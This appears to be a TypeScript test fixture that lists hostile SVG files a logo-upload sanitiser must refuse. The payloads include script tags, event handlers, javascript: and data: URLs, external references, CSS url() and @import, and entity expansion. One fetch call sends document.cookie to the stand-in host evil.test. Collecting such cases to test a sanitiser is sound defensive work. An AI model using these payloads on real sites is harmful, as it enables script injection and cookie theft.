/** SVGs a logo upload must refuse: script, handlers, foreign content, external references, script URLs, CSS. */
const svg = (inner: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>${inner}<rect width="10" height="10" fill="#123456"/></svg>`;

export const HOSTILE_SVGS: Record<string, string> = {
  script: svg('<script>alert(document.cookie)</script>'),
  'script with CDATA': svg('<script type="text/ecmascript"><![CDATA[fetch("//evil.test/"+document.cookie)]]></script>'),
  'script in xlink namespace': svg('<script xlink:href="https://evil.test/x.js"/>'),
  'onload on the root': svg('', ' onload="alert(1)"'),
  'onclick on a shape': svg('<circle r="4" onclick="alert(1)"/>'),
  'upper-case handler': svg('<circle r="4" ONMOUSEOVER="alert(1)"/>'),
  foreignObject: svg(
    '<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject>',
  ),
  'external image': svg('<image href="https://evil.test/track.png" width="10" height="10"/>'),
  'external image (xlink)': svg('<image xlink:href="http://evil.test/track.png" width="10" height="10"/>'),
  'file path image': svg('<image href="/etc/passwd" width="10" height="10"/>'),
  'javascript link': svg('<a href="javascript:alert(1)"><circle r="4"/></a>'),
  'javascript link (xlink, spaced)': svg('<a xlink:href=" java\tscript:alert(1)"><circle r="4"/></a>'),
  'use of an external document': svg('<use href="https://evil.test/sprites.svg#logo"/>'),
  'use of an external document (xlink)': svg('<use xlink:href="external.svg#x"/>'),
  'css url() in style element': svg('<style>rect { fill: url(https://evil.test/x.svg#p) }</style>'),
  'css @import': svg('<style>@import url("https://evil.test/x.css");</style>'),
  'css url() in style attribute': svg('<rect width="5" height="5" style="fill: url(\'http://evil.test/p\')"/>'),
  'url() in a presentation attribute': svg('<rect width="5" height="5" fill="url(https://evil.test/x.svg#g)"/>'),
  'data: svg with script': svg(
    `<image href="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')}"/>`,
  ),
  'data: html': svg('<a href="data:text/html,<script>alert(1)</script>"><circle r="4"/></a>'),
  'animate to javascript': svg('<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="4"/></a>'),
  'set an event handler': svg('<set attributeName="onmouseover" to="alert(1)"/>'),
  iframe: svg('<iframe src="https://evil.test"></iframe>'),
  'entity expansion': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
};
